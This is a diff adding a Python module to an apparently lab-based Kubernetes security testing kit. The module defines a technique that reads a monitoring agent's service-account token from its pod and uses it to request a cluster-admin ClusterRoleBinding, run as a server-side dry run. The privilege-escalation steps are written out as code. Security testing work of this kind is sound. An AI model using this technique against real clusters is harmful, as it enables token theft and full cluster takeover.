@@ -1,0 +1,102 @@
+"""Become cluster-admin with the token of a monitoring agent.
+
+An agent that is let see everything is as good a find as an administrator, where it may do more
+than look: whoever stands in its pod has its token.
+"""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING
+
+from labkit.cluster import Environment
+from labkit.errors import ProbeError
+from labkit.model import View
+from labkit.model.rights import Action
+from labkit.model.workloads import token_caller, token_in
+from labkit.techniques._access import CHANNEL, api_url, may_all
+from labkit.techniques._ask import ask
+from labkit.techniques._base import ADMIN, POD, Prediction, Technique
+from labkit.techniques._pod import find_pod, token_of
+from labkit.techniques._reach import Answer
+from labkit.techniques._tokens import bearer
+from labkit.techniques._verdict import Setting, Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+AGENT = ("monitoring", "agent")
+GROUP = "rbac.authorization.k8s.io"
+PATH = f"/apis/{GROUP}/v1/clusterrolebindings?dryRun=All"
+BINDING = {
+    "apiVersion": f"{GROUP}/v1",
+    "kind": "ClusterRoleBinding",
+    "metadata": {"name": "labkit-agent"},
+    "roleRef": {"apiGroup": GROUP, "kind": "ClusterRole", "name": "cluster-admin"},
+    "subjects": [{"kind": "ServiceAccount", "namespace": AGENT[0], "name": AGENT[1]}],
+}
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether the agent may bind itself to cluster-admin."""
+    agent = token_caller(view.env, *AGENT)
+    if agent is None:
+        return Prediction(False, (str(token_in(view.env, *AGENT)),))
+    return may_all(view, agent, [Action("create", "clusterrolebindings", GROUP)])
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Bind the agent to cluster-admin with its own token; a dry run, so nothing is stored."""
+    token = token_of(lab, find_pod(lab, *AGENT))
+    if token is None:
+        raise ProbeError("the agent has no token, and it should")
+    body = json.dumps(BINDING).encode()
+
+    def proof(answer: Answer) -> str:
+        if json.loads(answer.body).get("kind") != BINDING["kind"]:
+            raise ProbeError("the apiserver answered, but not with the binding")
+        return "the apiserver takes a binding of the agent to cluster-admin (a dry run)"
+
+    def control() -> str:
+        lab.kubectl("create", "--dry-run=server", "--filename=-", stdin=body)
+        return "the administrator may bind the agent to it (a dry run)"
+
+    url = api_url(lab, PATH)
+    options = bearer(token)
+    return ask(
+        lab,
+        TECHNIQUE.name,
+        foothold,
+        url,
+        body=body,
+        options=options,
+        proof=proof,
+        control=control,
+    )
+
+
+def _settings(env: Environment) -> list[Setting]:
+    token = token_in(env, *AGENT)
+    return [("the token in monitoring/agent", token.value, str(token.source))]
+
+
+TECHNIQUE = Technique(
+    name="agent-token",
+    title="Become cluster-admin with the token of a monitoring agent",
+    footholds=(POD,),
+    grants=(ADMIN,),
+    about=CHANNEL,
+    properties=("authorization",),
+    attack=("T1528", "T1098.006"),
+    stride=("elevation of privilege",),
+    cwe=("CWE-250", "CWE-269"),
+    sources=(
+        "https://kubernetes.io/docs/concepts/security/rbac-good-practices/",
+        "https://attack.mitre.org/techniques/T1098/006/",
+    ),
+    predict=predict,
+    execute=execute,
+    settings=_settings,
+)
